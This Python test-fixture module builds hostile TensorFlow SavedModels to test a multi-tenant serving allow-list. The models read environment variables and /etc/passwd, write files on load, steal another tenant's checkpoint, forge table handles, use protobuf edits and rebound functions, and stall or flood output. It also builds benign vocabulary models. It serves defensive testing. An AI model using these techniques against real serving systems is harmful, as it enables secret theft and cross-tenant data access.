"""SavedModels a hostile tenant would upload, built for real, one per family the allow-list
refuses, and the vocabulary models it must keep accepting.

Each hostile model's harmful op would leave a trace if it ever ran (a marker file written, a
file read into an output), so a test can prove it was refused before any load or call.
"""
from __future__ import annotations

from pathlib import Path

import numpy as np
import tensorflow as tf
from tensorflow.core.framework import types_pb2
from tensorflow.core.protobuf import saved_model_pb2

_STRING = [tf.TensorSpec([None], tf.string, name="text")]


def _save(module: tf.Module, directory: Path) -> Path:
    tf.saved_model.save(module, str(directory), signatures={"serving_default": module.serve})
    return directory


def _serving(body) -> tf.Module:
    """A module whose serving signature (string input) returns {"out": body(text)}."""
    module = tf.Module()
    module.serve = tf.function(lambda text: {"out": body(text)}, input_signature=_STRING)
    return module


def reads_environment(directory: Path) -> Path:
    return _save(_serving(lambda text: tf.io.read_file("/proc/self/environ") + text), directory)


def writes_a_file(directory: Path, marker: Path) -> Path:
    """Writes `marker` whenever it is called: warm-up included."""
    def body(text):
        with tf.control_dependencies([tf.io.write_file(str(marker), "pwned")]):
            return tf.identity(text)
    return _save(_serving(body), directory)


class _WritesOnLoad(tf.Module):
    """A variable-free resource whose TF2 initializer, run by tf.saved_model.load, writes `marker`."""

    def __init__(self, marker: Path):
        super().__init__()
        self.marker = str(marker)
        self.table = _MarkerTable(self.marker)

    @tf.function(input_signature=_STRING)
    def serve(self, text):
        return {"out": self.table.lookup(text)}


class _MarkerTable(tf.lookup.StaticHashTable):
    def __init__(self, marker: str):
        self._marker = marker
        super().__init__(tf.lookup.KeyValueTensorInitializer(["a"], [1], tf.string, tf.int64), -1)

    def _initialize(self):
        with tf.control_dependencies([tf.io.write_file(self._marker, "loaded")]):
            return super()._initialize()


def writes_on_load(directory: Path, marker: Path) -> Path:
    return _save(_WritesOnLoad(marker), directory)


def lists_the_model_cache(directory: Path) -> Path:
    return _save(_serving(lambda text: tf.strings.reduce_join(tf.io.matching_files("/tmp/*/*")) + text), directory)


def reads_a_dataset(directory: Path) -> Path:
    def body(text):
        lines = tf.data.TextLineDataset("/etc/passwd").reduce(tf.constant(""), lambda a, b: a + b)
        return lines + text
    return _save(_serving(body), directory)


def prints_to_a_file(directory: Path, marker: Path) -> Path:
    def body(text):
        with tf.control_dependencies([tf.print(text, output_stream=f"file://{marker}")]):
            return tf.identity(text)
    return _save(_serving(body), directory)


def calls_python(directory: Path) -> Path:
    return _save(_serving(lambda text: tf.py_function(lambda t: t, [text], tf.string)), directory)


def maps_a_file(directory: Path) -> Path:
    def body(text):
        mapped = tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[1], memory_region_name="/etc/passwd")
        return tf.strings.as_string(mapped) + text
    return _save(_serving(body), directory)


def debug_sink(directory: Path, marker: Path) -> Path:
    def body(text):
        return tf.raw_ops.DebugIdentityV2(input=text, debug_urls=[f"file://{marker}"])
    return _save(_serving(body), directory)


def saves_a_checkpoint(directory: Path, marker: Path) -> Path:
    def body(text):
        save = tf.raw_ops.SaveV2(prefix=str(marker), tensor_names=["t"], shape_and_slices=[""], tensors=[text])
        with tf.control_dependencies([save]):
            return tf.identity(text)
    return _save(_serving(body), directory)


def restores_another_checkpoint(directory: Path) -> Path:
    def body(text):
        (stolen,) = tf.raw_ops.RestoreV2(prefix="/tmp/tfbatch-models/victim/variables/variables",
                                         tensor_names=["w"], shape_and_slices=[""], dtypes=[tf.string])
        return stolen + text
    return _save(_serving(body), directory)


def _text_file_table(filename) -> tf.Tensor:
    table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
    init = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=filename, key_index=-2,
                                                    value_index=-1)
    with tf.control_dependencies([init]):
        return tf.identity(table)


def table_from_a_path(directory: Path) -> Path:
    """A vocabulary table filled from an absolute path, not from the model's assets."""
    def body(text):
        table = _text_file_table(tf.constant("/etc/passwd"))
        return tf.strings.as_string(tf.raw_ops.LookupTableFindV2(table_handle=table, keys=text,
                                                                 default_value=tf.constant(-1, tf.int64)))
    return _save(_serving(body), directory)


def table_from_the_input(directory: Path) -> Path:
    """A table filled from a file the caller names in its input."""
    def body(text):
        table = _text_file_table(text[0])
        return tf.strings.as_string(tf.raw_ops.LookupTableFindV2(table_handle=table, keys=text,
                                                                 default_value=tf.constant(-1, tf.int64)))
    return _save(_serving(body), directory)


def hidden_in_a_branch(directory: Path) -> Path:
    """ReadFile inside a nested function, inside one branch of a tf.cond."""
    @tf.function
    def steal():
        return tf.io.read_file("/etc/hostname")

    def body(text):
        return tf.cond(tf.size(text) > 100, steal, lambda: tf.constant("")) + text
    return _save(_serving(body), directory)


def tf1_graph_reads_a_file(directory: Path) -> Path:
    """A TF1 SavedModelBuilder graph whose signature output depends on ReadFile."""
    v1 = tf.compat.v1
    graph = tf.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        text = v1.placeholder(tf.string, [None], name="text")
        out = tf.add(tf.io.read_file("/proc/self/environ", name="steal"), text, name="out")
        builder = v1.saved_model.Builder(str(directory))
        signature = v1.saved_model.signature_def_utils.predict_signature_def({"text": text}, {"out": out})
        builder.add_meta_graph_and_variables(session, ["serve"], signature_def_map={"serving_default": signature})
        builder.save()
    return directory


def asset_outside_the_model(directory: Path) -> Path:
    """A real vocabulary model whose asset entry was edited to name a file outside assets/."""
    vocabulary_table(directory)
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((directory / "saved_model.pb").read_bytes())
    proto.meta_graphs[0].asset_file_def[0].filename = "../../../../etc/passwd"
    (directory / "saved_model.pb").write_bytes(proto.SerializeToString())
    return directory


def samples_from_a_file(directory: Path) -> Path:
    """An allowed family's op with a file in an attribute: the kernel opens it when built."""
    def body(text):
        sampled = tf.random.fixed_unigram_candidate_sampler(
            true_classes=tf.zeros([1, 1], tf.int64), num_true=1, num_sampled=1, unique=False, range_max=1,
            vocab_file="/etc/hostname")
        return tf.strings.as_string(sampled.sampled_candidates[0]) + text
    return _save(_serving(body), directory)


def forges_a_handle(directory: Path) -> Path:
    """A table handle decoded from the caller's bytes: any table of the process, another
    tenant's included, exported and destroyed."""
    module = tf.Module()

    def body(handle):
        table = tf.raw_ops.ParseTensor(serialized=handle, out_type=tf.resource)
        keys, _ = tf.raw_ops.LookupTableExportV2(table_handle=table, Tkeys=tf.string, Tvalues=tf.int64)
        return {"out": keys}
    module.serve = tf.function(body, input_signature=[tf.TensorSpec([], tf.string, name="handle")])
    return _save(module, directory)


def constant_handle(directory: Path) -> Path:
    """A Const whose value is a resource handle (written into the protobuf, as an attacker would)."""
    string_io_like = _serving(lambda text: tf.strings.upper(text))
    _save(string_io_like, directory)
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((directory / "saved_model.pb").read_bytes())
    function = next(f for f in proto.meta_graphs[0].graph_def.library.function if "lambda" in f.signature.name)
    node = function.node_def.add(name="forged", op="Const")
    node.attr["dtype"].type = types_pb2.DT_RESOURCE
    node.attr["value"].tensor.dtype = types_pb2.DT_RESOURCE
    (directory / "saved_model.pb").write_bytes(proto.SerializeToString())
    return directory


def reads_uninitialised_memory(directory: Path) -> Path:
    def body(text):
        leftovers = tf.raw_ops.Empty(shape=[1024], dtype=tf.float32, init=False)
        return tf.strings.as_string(tf.reduce_sum(leftovers)) + text
    return _save(_serving(body), directory)


def _tf1_table_model(directory: Path, build_filename, *, main_op: bool) -> Path:
    """A TF1 graph with a text-file table whose filename `build_filename(asset)` gives."""
    v1 = tf.compat.v1
    source = _vocabulary_file(directory)
    graph = tf.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        asset = tf.constant(str(source), name="asset_path")
        graph.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, asset)
        word = v1.placeholder(tf.string, [None], name="word")
        table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, use_node_name_sharing=True)
        init = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=build_filename(asset),
                                                        key_index=-2, value_index=-1)
        with tf.control_dependencies([] if main_op else [init]):
            ids = tf.raw_ops.LookupTableFindV2(table_handle=table, keys=word, default_value=tf.constant(-1, tf.int64))
        builder = v1.saved_model.Builder(str(directory))
        signature = v1.saved_model.signature_def_utils.predict_signature_def({"word": word}, {"id": ids})
        builder.add_meta_graph_and_variables(
            session, ["serve"], signature_def_map={"serving_default": signature},
            assets_collection=graph.get_collection(v1.GraphKeys.ASSET_FILEPATHS),
            main_op=tf.group(init) if main_op else None)
        builder.save()
    return directory


def tf1_asset_read_by_the_signature(directory: Path) -> Path:
    """The TF1 loader feeds asset paths only into the init op: a signature that fills a table
    from the asset tensor reads the tensor's own constant, which the attacker edits."""
    _tf1_table_model(directory, lambda asset: asset, main_op=False)
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((directory / "saved_model.pb").read_bytes())
    for node in proto.meta_graphs[0].graph_def.node:
        if node.name == "asset_path":
            node.attr["value"].tensor.string_val[0] = b"/etc/hostname"
    (directory / "saved_model.pb").write_bytes(proto.SerializeToString())
    return directory


def tf1_asset_through_an_aliased_variable(directory: Path) -> Path:
    """The init op reads the filename from variable A, assigned only the asset; but B shares
    A's name, so it is the same variable, and B is assigned another path afterwards."""
    def through_variables(asset):
        first = tf.raw_ops.VarHandleOp(dtype=tf.string, shape=[], shared_name="path", name="A")
        second = tf.raw_ops.VarHandleOp(dtype=tf.string, shape=[], shared_name="path", name="B")
        set_first = tf.raw_ops.AssignVariableOp(resource=first, value=asset)
        with tf.control_dependencies([set_first]):
            set_second = tf.raw_ops.AssignVariableOp(resource=second, value=tf.constant("/etc/hostname"))
        with tf.control_dependencies([set_second]):
            return tf.raw_ops.ReadVariableOp(resource=first, dtype=tf.string)
    return _tf1_table_model(directory, through_variables, main_op=True)


def _tf1_saver_run_by_the_fallback_init(directory: Path, saver_op: str, path: Path) -> Path:
    """A TF1 export whose init op is removed, so the loader falls back to running whatever the
    'table_initializer' collection names, where the saver's `saver_op` is added; its filename
    constant (which that run is not fed) is set to `path`."""
    v1 = tf.compat.v1
    graph = tf.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        x = v1.placeholder(tf.float32, [None], name="x")
        v1.get_variable("payload", initializer=tf.constant([1.0, 2.0, 3.0]), use_resource=True)
        session.run(v1.global_variables_initializer())
        builder = v1.saved_model.Builder(str(directory))
        signature = v1.saved_model.signature_def_utils.predict_signature_def({"x": x}, {"y": tf.identity(x * 2)})
        builder.add_meta_graph_and_variables(session, ["serve"], signature_def_map={"serving_default": signature})
        builder.save()
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((directory / "saved_model.pb").read_bytes())
    graph_proto = proto.meta_graphs[0]
    graph_proto.signature_def.pop("__saved_model_init_op", None)
    for key in ("saved_model_main_op", "legacy_init_op"):
        graph_proto.collection_def.pop(key, None)
    nodes = {node.name: node for node in graph_proto.graph_def.node}
    filename = graph_proto.saver_def.filename_tensor_name.split(":")[0]
    while nodes[filename].op != "Const":
        filename = nodes[filename].input[0]
    nodes[filename].attr["value"].tensor.CopyFrom(tf.make_tensor_proto(str(path)))
    operation = getattr(graph_proto.saver_def, saver_op).split(":")[0]
    graph_proto.collection_def["table_initializer"].node_list.value.append(operation)
    (directory / "saved_model.pb").write_bytes(proto.SerializeToString())
    return directory


def tf1_save_run_at_load(directory: Path, marker: Path) -> Path:
    """Writes a checkpoint at `marker` when loaded (any existing folder: another model's too)."""
    return _tf1_saver_run_by_the_fallback_init(directory, "save_tensor_name", marker)


def tf1_restore_from_elsewhere(directory: Path) -> Path:
    """Restores its variables from another model's checkpoint when loaded, to serve them back."""
    return _tf1_saver_run_by_the_fallback_init(directory, "restore_op_name",
                                               Path("/tmp/tfbatch-models/victim/variables/variables"))


# --- what must stay accepted -------------------------------------------------------------------

VOCABULARY = ["cat", "dog", "fish"]


def _vocabulary_file(directory: Path) -> Path:
    """The vocabulary, one word a line, beside the model's folder (the export copies it in)."""
    source = directory.with_name(directory.name + "-vocabulary.txt")
    source.write_text("\n".join(VOCABULARY) + "\n")
    return source


class _Vocabulary(tf.Module):
    def __init__(self, path: str):
        super().__init__()
        initializer = tf.lookup.TextFileInitializer(path, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
                                                    tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)
        self.table = tf.lookup.StaticHashTable(initializer, -1)

    @tf.function(input_signature=[tf.TensorSpec([None], tf.string, name="word")])
    def serve(self, word):
        return {"id": self.table.lookup(word)}


def vocabulary_table(directory: Path) -> Path:
    """TF2: a StaticHashTable from a TextFileInitializer; the file becomes an asset."""
    source = _vocabulary_file(directory)
    return _save(_Vocabulary(str(source)), directory)


def keras_string_lookup(directory: Path) -> Path:
    """Keras 3: a StringLookup layer with a vocabulary file, exported for serving."""
    source = _vocabulary_file(directory)
    inputs = tf.keras.Input([1], dtype="string", name="word")
    outputs = tf.keras.layers.StringLookup(vocabulary=str(source), name="ids")(inputs)
    tf.keras.Model(inputs, outputs).export(str(directory), verbose=False)
    return directory


def tf1_vocabulary_table(directory: Path) -> Path:
    """TF1: index_table_from_file on an asset, initialised by the builder's main op."""
    v1 = tf.compat.v1
    source = _vocabulary_file(directory)
    graph = tf.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        asset = tf.constant(str(source), name="vocabulary_path")
        graph.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, asset)
        table = v1.lookup.StaticHashTable(
            v1.lookup.TextFileInitializer(asset, tf.string, -2, tf.int64, -1), -1)
        word = v1.placeholder(tf.string, [None], name="word")
        ids = tf.identity(table.lookup(word), name="id")
        weights = tf.Variable(np.ones(1, np.float32), name="unused_weight")
        session.run([v1.tables_initializer(), weights.initializer])
        builder = v1.saved_model.Builder(str(directory))
        signature = v1.saved_model.signature_def_utils.predict_signature_def({"word": word}, {"id": ids})
        builder.add_meta_graph_and_variables(
            session, ["serve"], signature_def_map={"serving_default": signature},
            assets_collection=graph.get_collection(v1.GraphKeys.ASSET_FILEPATHS),
            main_op=v1.tables_initializer())
        builder.save()
    return directory


# --- compute only, so accepted, but abusive: the limits must hold them -------------------------

class _HugeOutput(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32, name="x")])
    def serve(self, x):
        """A row of x[0, 0] floats per record: a 17-byte input can ask for hundreds of MB."""
        return {"big": tf.fill([tf.shape(x)[0], tf.cast(x[0, 0], tf.int32)], 0.5)}


def huge_output(directory: Path) -> Path:
    return _save(_HugeOutput(), directory)


class _Stalls(tf.Module):
    """A record with x > 0 loops until the model's `release` variable is set: a call that never
    ends on its own (and, released, ends for sure, so no thread outlives the test)."""

    def __init__(self):
        super().__init__()
        self.release = tf.Variable(0, dtype=tf.int32)

    @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32, name="x")])
    def serve(self, x):
        spins = tf.while_loop(
            lambda i: tf.logical_and(tf.reduce_max(x) > 0, self.release.read_value() == 0),
            lambda i: [i + 1], [tf.constant(0, tf.int64)])
        return {"y": x * 2 + tf.cast(spins[0] * 0, tf.float32)}


def stalls_until_released(directory: Path) -> Path:
    return _save(_Stalls(), directory)


# --- functions the TF2 object graph rebinds ----------------------------------------------------
# The loader makes every function the object graph names callable (a resource's `_initialize`, a
# signature), whatever calls it in the graph. These three name a function that the graph itself
# calls only from the saver or the init op (where its file op would look like the loader's own),
# and rebind an object to it, so that loading or a caller runs it with a path of its choosing.

def _rewrite(directory: Path, function, rebind) -> Path:
    """Add `function` (a traced tf.function) to the library, call it from the graph node
    `rebind` returns (with its inputs), and point the object graph at it."""
    definition = function.get_concrete_function().function_def
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((directory / "saved_model.pb").read_bytes())
    meta_graph = proto.meta_graphs[0]
    meta_graph.graph_def.library.function.add().CopyFrom(definition)
    rebind(meta_graph, definition.signature.name)
    (directory / "saved_model.pb").write_bytes(proto.SerializeToString())
    return directory


def _call_from(meta_graph, name: str, function: str, after: str, inputs: list[str]) -> None:
    call = meta_graph.graph_def.node.add(name=name, op="StatefulPartitionedCall", input=inputs)
    call.attr["f"].func.name = function
    call.attr["Tin"].list.type.extend([types_pb2.DT_STRING] * len(inputs))
    call.attr["Tout"].list.SetInParent()
    next(node for node in meta_graph.graph_def.node if node.name == after).input.append(f"^{name}")


def _object(meta_graph, *path: str):
    objects = meta_graph.object_graph_def.nodes
    found = objects[0]
    for step in path:
        found = objects[next(child.node_id for child in found.children if child.local_name == step)]
    return found


def _as_bare_function(obj, function: str, keywords: list[str]) -> None:
    del obj.children[:]
    obj.bare_concrete_function.concrete_function_name = function
    obj.bare_concrete_function.argument_keywords[:] = keywords


class _TableModule(tf.Module):
    def __init__(self):
        super().__init__()
        self.table = tf.lookup.StaticHashTable(tf.lookup.KeyValueTensorInitializer(["a"], [1]), -1)

    @tf.function(input_signature=_STRING)
    def serve(self, text):
        return {"out": self.table.lookup(text)}


def saves_at_load_through_the_object_graph(directory: Path, marker: Path) -> Path:
    """The table's initializer rebound to a function the graph calls only from the save tensor."""
    _save(_TableModule(), directory)

    @tf.function(input_signature=[])
    def save():
        tf.raw_ops.SaveV2(prefix=str(marker), tensor_names=["t"], shape_and_slices=[""],
                          tensors=[tf.constant(b"planted")])

    def rebind(meta_graph, function):
        _call_from(meta_graph, "save_call", function, _node(meta_graph.saver_def.save_tensor_name), [])
        _as_bare_function(_object(meta_graph, "table", "_initialize"), function, [])
    return _rewrite(directory, save, rebind)


class _TwoSignatures(tf.Module):
    @tf.function(input_signature=_STRING)
    def serve(self, text):
        return {"out": text}


def restores_through_a_rebound_signature(directory: Path) -> Path:
    """A signature rebound to a function the graph calls only from the saver's restore op, with
    the saver's filename: called by a scorer, it restores whatever checkpoint the input names."""
    module = _TwoSignatures()
    tf.saved_model.save(module, str(directory), signatures={"serving_default": module.serve, "steal": module.serve})

    @tf.function(input_signature=[tf.TensorSpec(None, tf.string)])
    def steal(prefix):
        tf.raw_ops.RestoreV2(prefix=prefix, tensor_names=["t"], shape_and_slices=[""], dtypes=[tf.string])

    def rebind(meta_graph, function):
        _call_from(meta_graph, "steal_call", function, _node(meta_graph.saver_def.restore_op_name),
                   [_node(meta_graph.saver_def.filename_tensor_name)])
        _as_bare_function(_object(meta_graph, "signatures", "steal"), function, ["text"])
        _object(meta_graph, "signatures", "steal").bare_concrete_function.ClearField("function_spec")
    return _rewrite(directory, steal, rebind)


def reads_a_path_through_a_rebound_signature(directory: Path) -> Path:
    """A signature rebound to a table-filling function the graph calls only from the init op,
    with the model's own asset: called by a scorer, it reads whatever file the input names."""
    module = _Vocabulary(str(_vocabulary_file(directory)))
    tf.saved_model.save(module, str(directory), signatures={"serving_default": module.serve, "steal": module.serve})

    @tf.function(input_signature=[tf.TensorSpec(None, tf.string)])
    def fill(path):
        table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="loot")
        tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=path, key_index=-2, value_index=-1)

    def rebind(meta_graph, function):
        init = meta_graph.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name
        _call_from(meta_graph, "fill_call", function, _node(init), [meta_graph.asset_file_def[0].tensor_info.name])
        _as_bare_function(_object(meta_graph, "signatures", "steal"), function, ["text"])
        _object(meta_graph, "signatures", "steal").bare_concrete_function.ClearField("function_spec")
    return _rewrite(directory, fill, rebind)


def _node(tensor: str) -> str:
    return tensor.split(":")[0]


class _SlowTable(tf.lookup.StaticHashTable):
    """A table whose initializer counts to `steps` first: pure compute, allowed op by op, that
    keeps a load busy (a few seconds here; a hostile one would count forever)."""

    steps = 1_000_000

    def _initialize(self):
        counted = tf.while_loop(lambda i: i < self.steps, lambda i: i + 1, [tf.constant(0, tf.int64)])[0]
        with tf.control_dependencies([counted]):
            return super()._initialize()


def loads_slowly(directory: Path) -> Path:
    """A model whose load runs the slow initializer. Building the table runs its initializer
    once, here, so it counts to 0 then; the export traces it again, counting to `steps`."""
    module = _TableModule.__new__(_TableModule)
    tf.Module.__init__(module)
    _SlowTable.steps = 0
    module.table = _SlowTable(tf.lookup.KeyValueTensorInitializer(["a"], [1]), -1)
    _SlowTable.steps = 1_000_000
    return _save(module, directory)
